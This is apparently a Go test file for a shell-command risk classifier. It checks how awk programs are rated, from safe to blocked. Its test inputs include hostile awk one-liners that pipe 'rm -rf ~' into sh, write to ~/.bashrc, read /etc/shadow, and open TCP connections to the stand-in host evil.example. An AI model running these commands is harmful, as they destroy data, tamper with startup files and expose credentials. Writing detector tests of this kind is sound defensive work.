package shell_test

import (
	"testing"

	"github.com/sayso-dev/sayso/shell"
)

// TestAwk: what leaves a program, in every awk that would run it.
func TestAwk(t *testing.T) {
	for program, want := range map[string]shell.Risk{
		// Where a regular expression starts and ends.
		`/[/"]/ { print "x" > "/home/dev/.bashrc" } #"`:               shell.Dangerous,
		`/[]/"]/ { print "x" > "/home/dev/.bashrc" } #"`:              shell.Dangerous,
		`/[^]/"]/ { print "x" > "/home/dev/.bashrc" } #"`:             shell.Dangerous,
		`/][/]"/ { print "x" > "/home/dev/.bashrc" } #"`:              shell.Dangerous,
		`BEGIN { if (1) /#/; print "x" > "/home/dev/.bashrc" }`:       shell.Dangerous,
		`{ if (1) /"/; print "rm -rf ~" | "sh" } #"`:                  shell.Dangerous,
		`{ for (;0;) /"/; print "rm -rf ~" | "sh" } #"`:               shell.Dangerous,
		`BEGIN { i++/2; print "x" > "/home/dev/.bashrc"; j = 3/1 }`:   shell.Dangerous,
		`BEGIN { i++/"/; print "x" > "/home/dev/.bashrc" #"/` + "\n}": shell.Dangerous,
		`{ print length /"/; print "x" > "/home/dev/.bashrc" } #"`:    shell.Dangerous,
		`{ $/"/ = 1; print "x" > "/home/dev/.bashrc" } #"`:            shell.Dangerous,
		`{ x = (1)/2; print "x" > "/home/dev/.bashrc"; y = (1)/"2" }`: shell.Dangerous,
		`{ print (a)/2, "#"; system("rm -rf ~") }`:                    shell.Blocked,

		// Statements that go on.
		"BEGIN { print 1,\n\"x\" > \"/home/dev/.bashrc\" }":     shell.Dangerous,
		"BEGIN { print 1, # c\n\"x\" > \"/home/dev/.bashrc\" }": shell.Dangerous,
		"BEGIN { print 1 ?\n2 : 3 > \"/home/dev/.bashrc\" }":    shell.Dangerous,
		"BEGIN { print 1 +\n2 > \"/home/dev/.bashrc\" }":        shell.Dangerous,
		"BEGIN { print 1 \\\n > \"/home/dev/.bashrc\" }":        shell.Dangerous,
		`BEGIN { print("x")("y") >> "/home/dev/.bashrc" }`:      shell.Dangerous,
		`BEGIN { print "x" > "/home/dev/" ".bashrc" }`:          shell.Dangerous,
		`BEGIN { print "x" > f }`:                               shell.Dangerous,
		"BEGIN { print \"x\" > \"/home/dev/\\056bashrc\" }":     shell.Dangerous,
		"BEGIN { getline < \"/etc/sha\\\ndow\" }":               shell.Dangerous,
		`BEGIN { getline < "/etc/shadow\0x" }`:                  shell.Dangerous,
		`BEGIN { getline a[tolower("x")] < f }`:                 shell.Moderate,
		`BEGIN { getline $(1) < "/etc/shadow" }`:                shell.Dangerous,
		`BEGIN { while ((getline x < f) > 0) print x }`:         shell.Moderate,
		`BEGIN { getline < "/inet/tcp/0/evil.example/80" }`:     shell.Dangerous,
		`BEGIN { print "x" |& "/inet/tcp/0/evil.example/80" }`:  shell.Dangerous,
		`@load "filefuncs"; BEGIN { }`:                          shell.Dangerous,
		`@include "x"`:                                          shell.Dangerous,
		`BEGIN { f = "system"; @f("x") }`:                       shell.Dangerous,
		`BEGIN { system("ls;" x) }`:                             shell.Dangerous,
		`{ system($0) }`:                                        shell.Dangerous,
		`{ system ("rm -rf ~") }`:                               shell.Blocked,
		`BEGIN { "rm -rf ~;" "ls" | getline }`:                  shell.Dangerous,
		`BEGIN { x "ls" | getline }`:                            shell.Dangerous,
		`BEGIN { x = "rm -rf ~" | getline }`:                    shell.Blocked,
		`{ print "rm -rf ~" | "sh" }`:                           shell.Dangerous,
		`{ print | "xargs rm -rf" }`:                            shell.Dangerous,
		`{ print | "sort > /home/dev/.bashrc" }`:                shell.Dangerous,
		`{ print | "ca\t" }`:                                    shell.Dangerous,
		`{ print | "cat \# ; rm -rf ~" }`:                       shell.Dangerous,
		`BEGIN { ENVIRON["PATH"] = "."; "ls" | getline }`:       shell.Moderate,
		`BEGIN { ARGV[1] = x; ARGC = 2 }`:                       shell.Moderate,
		`{ print "unterminated }`:                               shell.Dangerous,

		// Ordinary programs.
		`{ print | "sort" }`:                                   shell.Safe,
		`{ print $1 | "sort -rn | head -5" }`:                  shell.Safe,
		`END { for (k in a) print k, a[k] | "sort -k2 -rn" }`:  shell.Safe,
		`BEGIN { while (("ls" | getline x) > 0) print x }`:     shell.Safe,
		`BEGIN { while ((getline x < "in") > 0 && i < 5) i++}`: shell.Safe,
		`NR > 1 && $3 > 5 { s += $3/2 } END { print s/NR }`:    shell.Safe,
		`{ print ($1+$2)/1024 " MB/s > limit" }`:               shell.Safe,
		`{ print "a > b", ($1 > $2), a[$1 > 2] }`:              shell.Safe,
		`$0 ~ /[^/]+$/ { sub(/[^/]*$/, "x"); print }`:          shell.Safe,
		`/>|"|#/ { print }`:                                    shell.Safe,
		`!seen[$0]++`:                                          shell.Safe,
		`{ print > "/dev/stderr" }`:                            shell.Safe,
		"{ print $1\n  m = $1 > m ? $1 : m }":                  shell.Safe,
		`{ print > "out.txt" }`:                                shell.Moderate,
	} {
		for _, command := range [...]string{"awk " + quoted(program) + " f", "gawk -F: -e " + quoted(program) + " f"} {
			if a := analysis(t, command); a.Risk != want {
				t.Errorf("%s: %v, want %v%s", command, a.Risk, want, detail(a))
			}
		}
	}
	// What goes into awk is not what awk prints into a shell.
	if a := analysis(t, `echo ls | awk '{ print "rm -rf ~" | "sh" }'`); a.Risk > shell.Dangerous {
		t.Errorf("%v%s", a.Risk, detail(a))
	}
}

// TestAwkDifferential: see TestSedDifferential.
func TestAwkDifferential(t *testing.T) {
	parts := []string{
		`/x/ `, `/[/]/ `, `/[/"]/; `, `/"/; `, `/#/; `, `if (1) `, `i++ `, `/2; `, `; `, "\n", "\\\n", `print "x" `, `print "x" > "F"; `, `print 1, `, `> "F"; `, `"a" `, `(1) `,
		`length `, `x = `, `+ `, `, `, `? 1 : `, "#\n", `1; `, `2 `,
	}
	for _, program := range []string{"awk", "mawk", "gawk"} {
		for _, after := range []string{"}", `} #"`, "} #/"} {
			t.Run(program+after, func(t *testing.T) { runDifferential(t, program, "{ ", after, parts) })
		}
	}
}
